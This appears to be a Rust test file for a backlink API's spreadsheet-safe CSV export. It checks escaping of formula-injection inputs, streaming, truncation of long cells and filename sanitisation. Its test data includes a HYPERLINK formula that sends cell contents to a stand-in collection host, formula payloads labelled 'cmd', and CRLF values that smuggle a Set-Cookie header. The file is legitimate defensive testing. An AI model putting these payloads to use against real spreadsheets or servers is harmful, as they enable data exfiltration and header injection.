//! `format=excel`: files that a spreadsheet opens without change of meaning; and the names of files.

use backlinkd::api::{AuthPolicy, ENDPOINTS};
use backlinkd::config::ApiConfig;
use backlinkd::model::{Visit, VisitRecord};
use serde_json::Value;

use super::about::required;
use super::client::{Reply, encode};
use super::formats::{read_csv, tabular};
use super::server::Server;
use super::web::{link, page, random};

const MARK: &str = "\u{feff}";

/// Texts that a spreadsheet would execute, split or show wrongly, and their form in the file.
const TEXTS: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://collect.example/?\"&A1,\"prize\")",
        "'=HYPERLINK(\"http://collect.example/?\"&A1,\"prize\")",
    ),
    ("=1+1", "'=1+1"),
    ("+1+cmd", "'+1+cmd"),
    ("-2+3+cmd", "'-2+3+cmd"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("＝1+1", "'＝1+1"),
    ("＋49 30", "'＋49 30"),
    ("－1", "'－1"),
    ("＠x", "'＠x"),
    (" =1+1", "' =1+1"),
    ("\"=1+1", "'\"=1+1"),
    ("\u{a0}\u{200b}-1", "'\u{a0}\u{200b}-1"),
    ("\t1", "' 1"),
    ("\r1", "' 1"),
    ("\n1", "' 1"),
    ("ordinary text", "ordinary text"),
    ("1-1=0", "1-1=0"),
    ("comma, \"quoted\" and\nbreak", "comma, \"quoted\" and break"),
    ("Größe – 日本", "Größe – 日本"),
    ("a\u{2028}b\r\nc\u{85}d", "a b c d"),
    ("bell\u{7}esc\u{1b}[31mred", "bellesc[31mred"),
    ("semi;colon", "semi;colon"),
];

fn web() -> Vec<VisitRecord> {
    let links = TEXTS.iter().enumerate();
    let links = links.map(|(at, (text, _))| link(&format!("http://target.example/{at:02}"), text));
    let mut source = page("http://source.example/", "192.0.2.1", "SE", links.collect());
    let Visit::Responded(content) = &mut source.visit else { unreachable!() };
    content.facts.title = "=2+5".to_owned();
    content.facts.place.city = "-\u{0}City".to_owned();
    vec![source]
}

/// The rows of a response, which is a file with a byte order mark, one line each.
#[track_caller]
fn rows(reply: &Reply) -> Vec<Vec<String>> {
    assert_eq!(reply.status, 200);
    assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
    let text = reply.text();
    let rows = read_csv(text.strip_prefix(MARK).expect("a byte order mark"));
    assert_eq!(text.matches("\r\n").count(), rows.len(), "a row is one line");
    assert_eq!(text.matches(['\r', '\n']).count(), 2 * rows.len(), "lines end by CRLF alone");
    rows
}

#[test]
fn cells_are_shown_and_neither_executed_nor_split() {
    let server = Server::start(&web());
    let list = "/backlinks?url=target.example&fields=linktarget,linktext,title,city,pos,sr&order[]=linktarget&format=excel";
    let found = rows(&server.client.get(list));
    assert_eq!(found[0], ["linktarget", "linktext", "title", "city", "pos", "sr"]);
    assert_eq!(found.len(), TEXTS.len() + 1);
    for (at, ((text, shown), row)) in TEXTS.iter().zip(&found[1..]).enumerate() {
        let expected = [
            &format!("http://target.example/{at:02}"),
            *shown,
            "'=2+5",
            "'-City",
            &(at + 1).to_string(),
            "0",
        ];
        assert_eq!(row, &expected, "{text:?}");
    }
    let export = "/exportbacklinks?url=target.example&fields=linktext&format=excel";
    let shown: Vec<Vec<String>> = TEXTS.iter().map(|(_, shown)| vec![(*shown).to_owned()]).collect();
    assert_eq!(rows(&server.client.get(export))[1..], shown);
    // The plain format shows the content.
    let plain = server.client.get(&list.replace("excel", "csv"));
    assert_eq!(plain.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    let plain = read_csv(&plain.text());
    assert!(TEXTS.iter().zip(&plain[1..]).all(|((text, _), row)| row[1] == *text), "{plain:?}");
}

#[test]
fn every_list_and_export_supports_the_format() {
    let mut records = random(85, 250);
    records.extend(web());
    let server = Server::start(&records);
    for name in tabular() {
        for url in ["example.com", "target.example", "source.example", "unknown.example"] {
            let target = format!("/{name}?{}", required(name, url));
            let (excel, plain) = (
                server.client.get(&format!("{target}&format=excel")),
                server.client.get(&format!("{target}&format=csv")),
            );
            let (excel_rows, plain_rows) = (rows(&excel), read_csv(&plain.text()));
            assert_eq!(excel_rows.len(), plain_rows.len(), "{target}");
            for (excel, plain) in excel_rows.iter().flatten().zip(plain_rows.iter().flatten()) {
                let letters =
                    |text: &str| text.replace(|c: char| c.is_control() || "' \u{2028}".contains(c), "");
                assert_eq!(letters(excel), letters(plain), "{target}");
                assert!(
                    !excel.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                    "{excel}"
                );
            }
            for header in
                ["x-total-count", "x-export-finished", "x-next", "x-warnings", "vary", "content-disposition"]
            {
                assert_eq!(excel.header(header), plain.header(header), "{header} of {target}");
            }
        }
    }
}

#[test]
fn no_accept_header_selects_the_format_and_other_endpoints_refuse_it() {
    let server = Server::start(&web());
    for accept in ["text/csv", "text/csv; charset=utf-8", "application/vnd.ms-excel", "text/*", "excel"] {
        let accept = format!("Accept: {accept}");
        let reply = server.client.send("GET", "/backlinks?url=target.example", &[&accept], b"");
        assert!(!reply.text().starts_with(MARK), "{accept}");
        let chosen = server.client.send("GET", "/backlinks?url=target.example&format=excel", &[&accept], b"");
        rows(&chosen);
    }
    for target in
        ["/sr?url=target.example", "/linktextdistribution?url=target.example", "/anabacklinks?url=a.example"]
    {
        let refused = server.client.get(&format!("{target}&format=excel"));
        assert_eq!(refused.status, 400, "{target}");
        assert!(refused.json()["error"].as_str().unwrap().contains("in JSON alone"), "{target}");
    }
    let wrong = server.client.get("/backlinks?url=target.example&format=xlsx").json();
    assert!(wrong["error"].as_str().unwrap().contains("json or csv or jsonl or excel"), "{wrong}");
}

#[test]
fn the_format_is_streamed_tagged_and_compressed_like_csv() {
    let records: Vec<VisitRecord> = (0..200)
        .map(|number| {
            let links = (0..20).map(|at| link(&format!("http://large.example/{at}"), "=1+1")).collect();
            page(&format!("http://s{number}.example/"), "192.0.2.1", "SE", links)
        })
        .collect();
    let small_pieces = ApiConfig { stream_piece_bytes: 4_096, ..ApiConfig::default() };
    let server = Server::start_with(&records, small_pieces, AuthPolicy::Open);
    let target = "/backlinks?url=large.example&format=excel";
    let reply = server.client.get(target);
    assert_eq!((rows(&reply).len(), reply.header("transfer-encoding")), (4_001, Some("chunked")));
    let (tag, csv) = (reply.header("etag").unwrap(), server.client.get(&target.replace("excel", "csv")));
    assert_ne!(Some(tag), csv.header("etag"));
    let condition = format!("If-None-Match: {tag}");
    assert_eq!(server.client.send("GET", target, &[&condition], b"").status, 304);
    for coding in ["gzip", "zstd"] {
        let accept = format!("Accept-Encoding: {coding}");
        let packed = server.client.send("GET", target, &[&accept], b"");
        assert_eq!(packed.header("content-encoding"), Some(coding));
        assert_eq!(packed.text(), reply.text());
    }
    let short = format!("{target}&limit=3");
    let (first, again) = (server.client.get(&short), server.client.get(&short));
    assert!(rows(&first).len() == 4 && first.header("etag").unwrap().starts_with('"'));
    assert_eq!((&first.body, first.header("etag")), (&again.body, again.header("etag")));
    let head = server.client.send("HEAD", &short, &[], b"");
    assert_eq!(head.header("content-disposition"), again.header("content-disposition"));
}

#[test]
fn a_cell_too_long_for_a_sheet_is_cut_and_counted() {
    let long = |letter: &str| letter.repeat(40_000);
    let texts = [long("x"), long("ä"), "short".to_owned(), format!("={}", long("1"))];
    let links = texts.iter().map(|text| link("http://target.example/", text)).collect();
    let server = Server::start(&[page("http://source.example/", "", "", links)]);
    for target in ["/backlinks?url=target.example&order[]=pos", "/exportbacklinks?url=target.example"] {
        let target = format!("{target}&fields=linktext");
        let reply = server.client.get(&format!("{target}&format=excel"));
        let found = rows(&reply);
        let cut = found[1..].iter().filter(|row| row[0].ends_with(" more characters]")).count();
        assert_eq!(cut, 3, "{target}");
        assert!(found.iter().flatten().all(|cell| cell.encode_utf16().count() <= 32_767), "{target}");
        let warnings: Value = serde_json::from_str(reply.header("x-warnings").unwrap()).unwrap();
        assert_eq!(warnings, serde_json::json!(["3 cells are longer than 32767 characters and were cut"]));
        let plain = read_csv(&server.client.get(&format!("{target}&format=csv")).text());
        let mut whole: Vec<&String> = plain[1..].iter().map(|row| &row[0]).collect();
        let mut expected: Vec<&String> = texts.iter().collect();
        whole.sort();
        expected.sort();
        assert_eq!(whole, expected, "{target}");
    }
}

#[test]
fn files_have_a_name_for_every_subject() {
    let server = Server::start(&web());
    let name = |target: &str| {
        let reply = server.client.get(target);
        assert_eq!(reply.status, 200, "{target}");
        reply.header("content-disposition").map(str::to_owned)
    };
    for endpoint in ENDPOINTS.iter().filter(|endpoint| endpoint.handler.is_tabular()) {
        let target = format!("/{}?{}", endpoint.name, required(endpoint.name, "example.com"));
        let subject = if endpoint.name == "domains" { "index" } else { "example.com" };
        let expected = format!("attachment; filename=\"{}-{subject}.csv\"", endpoint.name);
        assert_eq!(name(&format!("{target}&format=excel")), Some(expected.clone()));
        assert_eq!(name(&format!("{target}&format=csv")), Some(expected.clone()));
        assert_eq!(name(&format!("{target}&format=jsonl")), Some(expected.replace(".csv", ".jsonl")));
        assert_eq!(name(&target), None);
    }
    for (url, expected) in [
        ("https://www.example.com/a/../b?c=\"d\"", "filename=\"iplist-www.example.com.csv\""),
        ("example.com/\r\nSet-Cookie: a=b", "filename=\"iplist-example.com.csv\""),
        ("http://example.com/%0d%0aX: y", "filename=\"iplist-example.com.csv\""),
        ("http://a:b@[::1]:8080/", "filename=\"iplist-___1_.csv\""),
        (
            "bücher.example",
            "filename=\"iplist-xn--bcher-kva.example.csv\"; filename*=UTF-8''iplist-b%C3%BCcher.example.csv",
        ),
    ] {
        let target = format!("/iplist?url={}&format=excel", encode(url));
        assert_eq!(name(&target), Some(format!("attachment; {expected}")), "{url}");
    }
}
